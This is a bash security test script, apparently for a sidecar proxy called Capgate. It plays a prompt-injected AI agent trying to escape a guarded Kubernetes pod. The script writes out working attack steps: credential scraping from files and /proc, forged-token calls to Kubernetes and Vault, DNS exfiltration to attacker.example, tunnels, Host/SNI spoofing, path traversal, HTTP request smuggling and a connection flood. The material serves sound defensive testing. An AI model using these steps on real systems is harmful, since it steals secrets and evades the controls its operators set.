#!/bin/bash
# A prompt-injected agent, inside an agent pod that Capgate guards (uid 1000, no credentials).
# It tries to steal the credential and to get around the sidecar. Every attempt prints
#   CHECK <name> ok|FAIL <what happened>
# "ok" = the attempt got nothing policy forbids. The JUnit side (AttackE2E) also greps this
# whole output, every readable file of the pod and every log for the secret values, and listens
# on canary ports outside the pod for anything that got through.
# Inputs (environment): UPSTREAM_IP NODE_IP VAULT_HOST VAULT_PORT APISERVER_PORT CANARY_HOST CANARY_HOST6
#                       CANARY_TCP_PORT CANARY_UDP_PORT
set -u
# The inputs, named once: a missing one stops the script here (and shellcheck knows them).
: "${UPSTREAM_IP?} ${NODE_IP?} ${VAULT_HOST?} ${VAULT_PORT?} ${APISERVER_PORT?} ${CANARY_HOST?}"
: "${CANARY_TCP_PORT?} ${CANARY_UDP_PORT?}"
OK=0; FAIL=0
check() {  # NAME ok|FAIL DETAIL...
  local name=$1 verdict=$2; shift 2
  printf 'CHECK %s %s %s\n' "$name" "$verdict" "$(echo "$*" | tr '\n' ' ' | cut -c1-300)"
  if [ "$verdict" = ok ]; then OK=$((OK + 1)); else FAIL=$((FAIL + 1)); fi
}
expect() {  # NAME CONDITION-STATUS DETAIL: ok when the condition (a command run before) held
  if [ "$2" = 0 ]; then check "$1" ok "$3"; else check "$1" FAIL "$3"; fi
}
section() { printf '\n=== %s\n' "$*"; }
# GitHub and MCP tokens of this stack, Vault/OpenBao service tokens (hvs.*, s.* of 24 characters
# with digits), private keys: a PEM header that ends its line (a key file) or is followed by key
# material (a key pasted into JSON/ini with "\n" escapes) — not a documentation example such as
# npm's `key="-----BEGIN PRIVATE KEY-----\\nXXXX\\n..."` (the agent image carries npm).
TOKEN_PATTERN='ghp_[A-Za-z0-9]{8,}|mcp_[a-f0-9]{8,}|hvs\.[A-Za-z0-9_-]{20,}|(^|[^A-Za-z0-9_.])s\.[A-Za-z0-9]*[0-9][A-Za-z0-9]*|-----BEGIN [A-Z ]*PRIVATE KEY-----($|\\*n?[A-Za-z0-9+/]{16})'

section "1. loot: environment, files, processes, tokens"
env | sort
if env | grep -qiE '^[^=]*(token|secret|passw|api_?key)[^=]*='; then
  check env_has_no_credentials FAIL "$(env | grep -iE '^[^=]*(token|secret|passw|api_?key)' | cut -d= -f1)"
else check env_has_no_credentials ok "no credential-looking variable"; fi
loot=$(grep -rIEoh --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "$TOKEN_PATTERN" / 2>/dev/null | sort -u | head -20)
echo "token-like strings in readable files: ${loot:-none}"
[ -z "$loot" ]; expect files_hold_no_tokens $? "$(find / -xdev -type f -readable 2>/dev/null | wc -l) readable files searched"
environs=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sort -u)
if echo "$environs" | grep -E "$TOKEN_PATTERN"; then
  check process_environments_clean FAIL "token in /proc/*/environ"
else
  processes=(/proc/[0-9]*)
  check process_environments_clean ok "${#processes[@]} processes visible (own pod only)"
fi
ls -la /var/run/secrets/kubernetes.io/serviceaccount/ 2>&1
[ ! -e /var/run/secrets/kubernetes.io/serviceaccount/token ]; expect no_service_account_token $? "no token at the standard path"
found_tokens=$(find / -xdev \( -name token -o -name '*.jwt' -o -name 'ca.key' -o -name 'placeholders.json' \) -readable 2>/dev/null | grep -v '^/proc' | head)
[ -z "$found_tokens" ]; expect no_token_files_anywhere $? "${found_tokens:-none readable}"
cat /var/run/secrets/capgate/ca/ca.key /var/run/secrets/capgate/token/token 2>&1 | head -3
[ ! -r /var/run/secrets/capgate/ca/ca.key ] && [ ! -r /var/run/secrets/capgate/token/token ]
expect sidecar_secrets_not_mounted $? "the pod CA key and the Vault token are the sidecar's alone"
grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status
[ "$(awk '/^CapEff/ {print $2}' /proc/self/status)" = 0000000000000000 ]; expect no_capabilities $? "CapEff=0"

section "2. the Kubernetes API and Vault, directly"
out=$(curl -sk -m 10 "https://${KUBERNETES_SERVICE_HOST:-10.96.0.1}/api/v1/namespaces/default/secrets" 2>&1); echo "$out" | head -5
! echo "$out" | grep -q '"apiVersion"'; expect kube_api_without_token $? "$(echo "$out" | head -c 160)"
for t in $(echo "$loot" | grep -E '^eyJ' || true) eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhdHRhY2tlciJ9.c2ln; do
  out=$(curl -sk -m 10 -H "Authorization: Bearer $t" "https://${KUBERNETES_SERVICE_HOST:-10.96.0.1}/api/v1/namespaces/default/secrets" 2>&1)
  ! echo "$out" | grep -q '"kind":"SecretList"'; expect kube_api_with_a_token $? "$(echo "$out" | head -c 160)"
done
out=$(curl -sk -m 10 "https://$NODE_IP:$APISERVER_PORT/version" 2>&1); echo "$out" | head -3
! echo "$out" | grep -q gitVersion; expect kube_apiserver_by_node_ip $? "$(echo "$out" | head -c 160)"
out=$(curl -sS -m 10 "http://${VAULT_HOST:-$NODE_IP}:$VAULT_PORT/v1/sys/health" 2>&1); echo "$out"
! echo "$out" | grep -q '"initialized"'; expect vault_directly $? "$(echo "$out" | head -c 200)"
out=$(curl -sS -m 10 -X POST -d '{"role":"capgate-agent","jwt":"eyJhbGciOiJSUzI1NiJ9.e30.c2ln"}' "http://${VAULT_HOST:-$NODE_IP}:$VAULT_PORT/v1/auth/kubernetes/login" 2>&1); echo "$out"
! echo "$out" | grep -q client_token; expect vault_login $? "$(echo "$out" | head -c 200)"
out=$(curl -sS -m 10 -H "X-Vault-Token: hvs.guess" "http://${VAULT_HOST:-$NODE_IP}:$VAULT_PORT/v1/secret/data/github/alice@example.com" 2>&1); echo "$out"
! echo "$out" | grep -q '"data"'; expect vault_read_secret $? "$(echo "$out" | head -c 200)"

section "3. around the sidecar: IPs, other ports, IPv6, UDP, raw sockets"
out=$(curl -sk -m 10 -w ' HTTP %{http_code}' "https://$UPSTREAM_IP/repos/acme/repo-a" 2>&1); echo "$out"
! echo "$out" | grep -qE 'no such host here|Bad credentials|full_name'; expect https_to_an_ip_without_sni $? "$out"
out=$(curl -sS -m 10 --resolve "github.test:18443:$NODE_IP" -w ' HTTP %{http_code}' "https://github.test:18443/acme/repo-a.git/info/refs?service=git-upload-pack" 2>&1); echo "$out"
! echo "$out" | grep -qE 'HTTP (200|401)'; expect upstream_host_process_on_its_own_port $? "$out"
out=$(python3 - "$CANARY_HOST" "$CANARY_TCP_PORT" <<'PY' 2>&1
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
s.sendall(b"GET / HTTP/1.1\r\nHost: canary\r\n\r\n")
try:
    print(s.recv(300).decode(errors="replace"))
except Exception as e:
    print("no answer:", type(e).__name__)
PY
); echo "$out"
! echo "$out" | grep -q CANARY-ACK; expect tcp_to_an_outside_ip $? "$(echo "$out" | head -c 200)"
if [ -n "${CANARY_HOST6:-}" ]; then
  out=$(python3 - "$CANARY_HOST6" "$CANARY_TCP_PORT" <<'PY' 2>&1
import socket, sys
try:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
    s.sendall(b"GET / HTTP/1.1\r\nHost: canary6\r\n\r\n")
    # The whole answer (the sidecar's problem+json names the requestId last), until it closes or
    # goes quiet.
    answer = b""
    try:
        while len(answer) < 16384:
            chunk = s.recv(4096)
            if not chunk:
                break
            answer += chunk
    except socket.timeout:
        pass
    print(answer.decode(errors="replace"))
except Exception as e:
    print("no answer:", type(e).__name__, e)
PY
); echo "$out"
  ! echo "$out" | grep -q CANARY-ACK; expect tcp_over_ipv6 $? "$(echo "$out" | head -c 200)"
  echo "$out" | grep -q requestId; expect ipv6_goes_through_the_sidecar $? "the sidecar answered over IPv6: $(echo "$out" | grep -o '"error":"[^"]*"')"
fi
out=$(python3 - "$CANARY_HOST" "$CANARY_UDP_PORT" "${CANARY_HOST6:-}" <<'PY' 2>&1
import socket, sys
for host, fam in ((sys.argv[1], socket.AF_INET), (sys.argv[3], socket.AF_INET6)):
    if not host:
        continue
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.sendto(b"udp-canary", (host, int(sys.argv[2])))
        print(host, "sent (the canary must not receive it)")
    except OSError as e:
        print(host, "refused:", e)
PY
); echo "$out"
check udp_egress ok "attempted (the canary outside decides): $(echo "$out" | tr '\n' ';')"
out=$(python3 -c '
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print("raw socket OPENED")
except OSError as e:
    print("raw socket refused:", e)' 2>&1); echo "$out"
! echo "$out" | grep -q OPENED; expect raw_sockets $? "$out"

section "4. DNS exfiltration"
exfil=$(echo "alice-token-exfil-$(date +%s)" | od -An -tx1 | tr -d ' \n' | cut -c1-50)
out=$(getent hosts "$exfil.attacker.example" 2>&1; echo "exit $?"); echo "$out"
echo "$out" | grep -q 'exit 2'; expect dns_exfil_getent $? "NXDOMAIN for $exfil.attacker.example"
out=$(python3 - "$exfil" <<'PY' 2>&1
import random, socket, struct, sys
def query(name, qtype=16):
    q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", qtype, 1)
name = sys.argv[1] + ".exfil.attacker.example"
for server in ("8.8.8.8", "10.255.255.53", "1.1.1.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    try:
        s.sendto(query(name), (server, 53)); r = s.recv(512)
        print(server, "udp rcode", r[3] & 0x0F, "answers", struct.unpack(">H", r[6:8])[0])
    except Exception as e:
        print(server, "udp", type(e).__name__)
t = socket.create_connection(("8.8.8.8", 53), timeout=5)
q = query(name); t.sendall(struct.pack(">H", len(q)) + q)
r = t.recv(514)[2:]
print("8.8.8.8 tcp rcode", r[3] & 0x0F, "answers", struct.unpack(">H", r[6:8])[0])
PY
); echo "$out"
! echo "$out" | grep -qvE 'rcode 3 answers 0'; expect dns_exfil_raw_udp_and_tcp $? "$(echo "$out" | tr '\n' ';')"

section "5. tunnels"
out=$(curl -sS -m 10 -p -x "http://$UPSTREAM_IP:80" -w ' HTTP %{http_code}' https://api.github.test/repos/acme/repo-a 2>&1); echo "$out"
! echo "$out" | grep -q full_name; expect connect_tunnel_through_port_80 $? "$out"
out=$(curl -sS -m 10 -p -x "http://127.0.0.1:14001" -w ' HTTP %{http_code}' https://pypi.org/ 2>&1); echo "$out"
! echo "$out" | grep -qE 'HTTP 200'; expect connect_to_the_sidecar_listener $? "$out"
out=$(python3 - <<'PY' 2>&1
import socket, ssl
ctx = ssl.create_default_context()
s = ctx.wrap_socket(socket.create_connection(("api.github.test", 443), timeout=10), server_hostname="api.github.test")
s.sendall(b"CONNECT internal.test:443 HTTP/1.1\r\nHost: internal.test:443\r\n\r\n")
print(s.recv(400).decode(errors="replace"))
PY
); echo "$out"
! echo "$out" | grep -qE '^HTTP/1.1 2'; expect connect_inside_allowed_tls $? "$(echo "$out" | head -1)"

section "6. Host / SNI mismatches"
out=$(curl -sS -m 10 -H 'Host: internal.test' -w ' HTTP %{http_code}' https://api.github.test/repos/acme/repo-a 2>&1); echo "$out"
! echo "$out" | grep -qE 'HTTP 2'; expect host_header_differs_from_sni $? "$out"
out=$(curl -sS -m 10 --connect-to mcp.test:443:api.github.test:443 -w ' HTTP %{http_code}' -X POST -d '{}' https://mcp.test/mcp 2>&1); echo "$out"
! echo "$out" | grep -qE 'HTTP 2|jsonrpc'; expect sni_of_a_denied_host $? "$out"
out=$(python3 - <<'PY' 2>&1
import socket, ssl
def send(raw):
    ctx = ssl.create_default_context()
    s = ctx.wrap_socket(socket.create_connection(("api.github.test", 443), timeout=10), server_hostname="api.github.test")
    s.sendall(raw)
    data = b""
    try:
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except Exception:
        pass
    return data.decode(errors="replace")
print("dup-host:", send(b"GET /repos/acme/repo-a HTTP/1.1\r\nHost: api.github.test\r\nHost: evil.example\r\nConnection: close\r\n\r\n").split("\r\n")[0])
print("other-host:", send(b"GET /repos/acme/repo-b HTTP/1.1\r\nHost: github.test\r\nConnection: close\r\n\r\n").split("\r\n")[0])
print("userinfo:", send(b"GET https://x@api.github.test/repos/acme/repo-b HTTP/1.1\r\nHost: api.github.test\r\nConnection: close\r\n\r\n").split("\r\n")[0])
PY
); echo "$out"
! echo "$out" | grep -qE 'HTTP/1.1 2'; expect duplicate_and_foreign_host_headers $? "$(echo "$out" | tr '\n' ';')"

section "7. path normalization tricks"
bad=0
for p in '/repos/acme/repo-a/../repo-b' '/repos/acme/repo-a/%2e%2e/repo-b' '/repos/acme/repo-a/%2E%2E%2Frepo-b' \
         '/repos/acme/repo-a%2F..%2Frepo-b' '/repos/acme//repo-b' '/repos/acme/repo-a/..;/repo-b' '/repos/acme/./repo-b' \
         '/repos/acme/repo-a/.%2e/repo-b' '/repos/acme/repo-a/%252e%252e/repo-b' '/repos/acme/repo-a/..%00/repo-b' \
         '/repos/acme/repo-a/..\\repo-b' '/repos/ACME/repo-b'; do
  out=$(curl -sS -m 10 --path-as-is -w ' HTTP %{http_code}' "https://api.github.test$p" 2>&1)
  echo "$p -> $out"
  echo "$out" | grep -q '"full_name":"acme/repo-b"' && bad=1
done
out=$(curl -sS -m 10 --path-as-is -X DELETE -w ' HTTP %{http_code}' "https://api.github.test/repos/acme/repo-a/pulls/.." 2>&1); echo "DELETE pulls/.. -> $out"
echo "$out" | grep -q 'HTTP 204' && bad=1
out=$(curl -sS -m 10 -X delete -w ' HTTP %{http_code}' "https://api.github.test/repos/acme/repo-a" 2>&1); echo "lower-case delete -> $out"
echo "$out" | grep -q 'HTTP 204' && bad=1
[ "$bad" = 0 ]; expect path_normalization_tricks $? "no trick reached repo-b or deleted repo-a"

section "8. request smuggling"
out=$(python3 - <<'PY' 2>&1
import socket, ssl
def send(raw, wait=3):
    ctx = ssl.create_default_context()
    s = ctx.wrap_socket(socket.create_connection(("api.github.test", 443), timeout=wait), server_hostname="api.github.test")
    s.sendall(raw)
    data = b""
    try:
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except Exception:
        pass
    return data.decode(errors="replace")
def statuses(text):
    import re
    return re.findall(r"HTTP/1\.1 \d{3}[^\r\n]*", text)
smuggled = b"DELETE /repos/acme/repo-a HTTP/1.1\r\nHost: api.github.test\r\n\r\n"
print("CL+TE:", statuses(send(b"POST /repos/acme/repo-a/pulls HTTP/1.1\r\nHost: api.github.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled)))
print("TE+CL:", statuses(send(b"POST /repos/acme/repo-a/pulls HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nContent-Length: 60\r\n\r\n0\r\n\r\n" + smuggled)))
print("TE obfuscated:", statuses(send(b"POST /repos/acme/repo-a/pulls HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + smuggled)))
print("TE space:", statuses(send(b"POST /repos/acme/repo-a/pulls HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + smuggled)))
print("double CL:", statuses(send(b"POST /repos/acme/repo-a/pulls HTTP/1.1\r\nHost: api.github.test\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n" + smuggled)))
print("bare LF:", statuses(send(b"GET /repos/acme/repo-a HTTP/1.1\nHost: api.github.test\n\nDELETE /repos/acme/repo-a HTTP/1.1\nHost: api.github.test\n\n")))
print("CR in header:", statuses(send(b"GET /repos/acme/repo-a HTTP/1.1\r\nHost: api.github.test\r\nX-A: b\rDELETE /repos/acme/repo-a\r\n\r\n")))
print("keep-alive GET then DELETE:", statuses(send(b"GET /repos/acme/repo-a HTTP/1.1\r\nHost: api.github.test\r\n\r\n" + smuggled)))
PY
); echo "$out"
! echo "$out" | grep -q "HTTP/1.1 204"; expect smuggling_never_deletes $? "$(echo "$out" | tr '\n' ';')"
echo "$out" | grep "keep-alive" | grep -q "200 OK.*403"; expect each_keep_alive_request_checked $? "$(echo "$out" | grep keep-alive)"

section "9. flood the sidecar"
out=$(python3 - "$UPSTREAM_IP" <<'PY' 2>&1
import socket, ssl, sys, time, concurrent.futures
ip = sys.argv[1]
t0 = time.time(); socks = []; errors = 0
for i in range(500):
    try:
        s = socket.socket(); s.setblocking(False)
        s.connect_ex((ip, 443)); socks.append(s)
    except OSError:
        errors += 1
time.sleep(3)
def tls_get(_):
    try:
        ctx = ssl.create_default_context()
        s = ctx.wrap_socket(socket.create_connection(("api.github.test", 443), timeout=10), server_hostname="api.github.test")
        s.sendall(b"GET /repos/acme/repo-a HTTP/1.1\r\nHost: api.github.test\r\nConnection: close\r\n\r\n")
        return s.recv(64).split(b"\r\n")[0].decode()
    except Exception as e:
        return type(e).__name__
with concurrent.futures.ThreadPoolExecutor(50) as pool:
    results = list(pool.map(tls_get, range(100)))
for s in socks:
    s.close()
print("opened %d idle connections (%d errors) and made 100 TLS requests, 50 at a time, in %.1f s" % (len(socks), errors, time.time() - t0))
print("results:", {r: results.count(r) for r in set(results)})
PY
); echo "$out"
sleep 1
after=$(curl -sS -m 15 -w ' HTTP %{http_code}' https://api.github.test/repos/acme/repo-a 2>&1); echo "after the flood: $after"
echo "$after" | grep -q 'HTTP 200'; expect sidecar_serves_after_a_flood $? "$(echo "$out" | tr '\n' ';') then: $after"

section "10. the sidecar's own ports"
out=$(curl -sS -m 5 http://127.0.0.1:14021/readyz 2>&1; echo; curl -sS -m 5 http://127.0.0.1:14021/metrics 2>&1 | head -20); echo "$out"
! echo "$out" | grep -qE "$TOKEN_PATTERN"; expect admin_port_leaks_nothing $? "readyz/metrics hold no credential"

section "summary"
echo "SUMMARY ok=$OK fail=$FAIL"
